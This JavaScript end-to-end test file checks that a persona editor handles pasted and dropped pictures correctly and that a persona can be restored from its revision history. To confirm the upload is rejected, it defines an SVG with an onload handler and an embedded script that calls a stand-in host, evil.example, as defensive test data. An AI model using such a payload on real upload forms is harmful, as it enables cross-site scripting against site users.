// picture_test.mjs - a persona's picture, pasted and dropped, whatever it is; and the persona as it was before.
import assert from "node:assert/strict";
import { story, until } from "./kit.mjs";

// What is dropped or pasted, made in the page: files of these kinds are nowhere kept.
async function give(page, event, kind) {
	await page.evaluate(async ([event, kind]) => {
		const drawn = async (type, side, noise) => {
			const canvas = document.createElement("canvas");
			canvas.width = side;
			canvas.height = side / 2;
			const pen = canvas.getContext("2d");
			pen.fillStyle = "#c33";
			pen.fillRect(0, 0, side, side);
			if (noise) {
				const data = pen.createImageData(side, side / 2);
				for (let i = 0; i < data.data.length; i += 4096) crypto.getRandomValues(data.data.subarray(i, Math.min(i + 4096, data.data.length)));
				for (let i = 3; i < data.data.length; i += 4) data.data[i] = 255;
				pen.putImageData(data, 0, 0);
			}
			return new Promise((done) => canvas.toBlob(done, type, 0.9));
		};
		const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="parent.hacked=1"><script>parent.hacked = 1; fetch("https://evil.example/")</script><circle r="9"/></svg>';
		const make = {
			png: async () => new File([await drawn("image/png", 600)], "face.png", { type: "image/png" }),
			jpeg: async () => new File([await drawn("image/jpeg", 600)], "face.jpg", { type: "image/jpeg" }),
			huge: async () => new File([await drawn("image/png", 2800, true)], "photo.png", { type: "image/png" }),
			text: async () => new File(["no picture at all"], "notes.txt", { type: "text/plain" }),
			lie: async () => new File(["no picture at all"], "face.png", { type: "image/png" }),
			svg: async () => new File([svg], "face.svg", { type: "image/svg+xml" }),
		};
		const file = await make[kind]();
		if (kind === "huge" && file.size < 10e6) throw new Error(`only ${file.size}`);
		const data = new DataTransfer();
		data.items.add(file);
		const made = event === "paste" ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }) : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
		(event === "paste" ? document.body : document.querySelector('[role=group][aria-label="Picture"]')).dispatchEvent(made);
	}, [event, kind]);
}

story("a picture is pasted or dropped: png, jpeg, ten megabytes; what is none is said, and no script runs", { data: "empty", users: ["editor"] }, async (house) => {
	const api = await house.api("editor");
	await api.post("personas", { persona: { id: "anna", name: "Anna" } });
	const page = await house.page("editor", { at: "/personas/anna" });
	const photo = async () => (await api.get("personas/anna")).persona.photo ?? "";
	const wrong = page.getByText("This is no picture that the browser can read");
	let before = "";
	for (const [event, kind] of [["paste", "png"], ["drop", "jpeg"], ["drop", "huge"], ["paste", "huge"]]) {
		if (before) {
			await page.getByRole("button", { name: "Remove the picture" }).click();
			await until("it is gone", async () => (await photo()) === "");
		}
		await give(page, event, kind);
		before = await until(`${kind} by ${event}`, photo);
		assert.match(before, /^data:image\/jpeg;base64,/);
		assert.ok(before.length < 250_000);
		const shape = await page.getByRole("group", { name: "Picture" }).locator("img").evaluate((image) => image.decode().then(() => [image.naturalWidth, image.naturalHeight]));
		assert.deepEqual(shape, [256, 256]);
	}
	for (const [event, kind] of [["drop", "text"], ["drop", "lie"], ["paste", "lie"], ["drop", "svg"], ["paste", "svg"]]) {
		await page.reload();
		await page.settled();
		await give(page, event, kind);
		await wrong.waitFor();
		assert.equal(await photo(), before, `${kind} by ${event} leaves the one that is there`);
	}
	assert.equal(await page.evaluate(() => window.hacked), undefined);
});

story("a persona is brought back as it was, from its history, and what was restored over is there, too", { data: "empty", users: ["editor"] }, async (house) => {
	const api = await house.api("editor");
	const made = await api.post("personas", { persona: { id: "anna", name: "Anna", goals: [{ text: "A cheap one", basis: "assumed" }] } });
	await api.put("personas/anna", { seen: made.revision, persona: { id: "anna", name: "Anna Maria", goals: [{ text: "A good one", basis: "assumed" }] } });
	const page = await house.page("editor", { at: "/personas/anna" });
	const named = async () => {
		const { persona } = await api.get("personas/anna");
		return `${persona.name}: ${persona.goals.map((goal) => goal.text ?? goal)}`;
	};
	const history = async () => {
		const button = page.getByRole("button", { name: "History", exact: true });
		if (!(await button.isVisible())) await page.getByRole("button", { name: /^More/ }).first().click();
		await button.or(page.getByRole("menuitem", { name: "History" })).first().click();
	};
	await history();
	await page.getByRole("dialog").getByRole("button", { name: `Bring revision ${made.revision} back` }).click();
	await until("it is as it was", async () => (await named()) === "Anna: A cheap one");
	await page.keyboard.press("Escape");
	await until("the page shows it", async () => (await page.getByRole("textbox", { name: "Goals, statement 1" }).inputValue()) === "A cheap one");
	await page.getByRole("textbox", { name: "Goals, statement 1" }).fill("The cheapest");
	await until("one goes on from there", async () => (await named()) === "Anna: The cheapest");
	assert.ok((await api.get("personas/anna/history")).revisions.length >= 4);
});
